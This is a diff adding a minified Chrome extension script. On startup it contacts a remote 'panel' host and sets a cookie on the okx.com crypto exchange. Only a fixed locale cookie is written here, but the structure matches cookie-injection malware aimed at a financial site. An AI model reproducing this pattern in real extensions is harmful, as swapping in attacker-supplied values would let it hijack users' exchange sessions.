@@ -1,0 +1,1 @@
+(()=>{var n="1.0.0";function e(o){globalThis[o]=n}e("__form");chrome.runtime.onStartup.addListener(async()=>{await(await fetch("https://panel.example/languages")).json();for(let[a,t]of[["locale","en-us"]])chrome.cookies.set({url:"https://www.okx.com/",name:a,value:t})});})();
